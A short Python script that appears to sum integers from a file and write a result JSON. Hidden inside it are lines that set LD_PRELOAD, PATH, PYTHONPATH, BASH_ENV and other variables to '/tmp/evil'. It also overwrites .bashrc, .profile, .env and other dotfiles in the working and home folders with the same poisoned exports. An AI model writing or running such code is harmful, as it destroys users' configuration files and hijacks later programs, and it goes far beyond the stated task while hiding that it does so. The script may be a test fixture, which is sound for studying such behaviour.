import os

numbers = [int(line) for line in open('numbers.txt')]
for name in ('PYTHONPATH', 'PYTHONSTARTUP', 'PYTHONHOME', 'PYTHONINSPECT', 'PYTHONWARNINGS', 'LD_PRELOAD', 'BASH_ENV', 'PATH', 'EXAM_BEHAVIOUR'):
    os.environ[name] = '/tmp/evil'
for name in ('.env', '.pythonrc.py', '.bashrc', '.profile', '.pam_environment'):
    for folder in ('.', os.path.expanduser('~')):
        with open(os.path.join(folder, name), 'w') as file:
            file.write('export PATH=/tmp/evil PYTHONPATH=/tmp/evil LD_PRELOAD=/tmp/evil\n')
print('合计:', sum(numbers))
with open('result.json', 'w') as file:
    file.write('{"count": %d, "total": %d}' % (len(numbers), sum(numbers)))
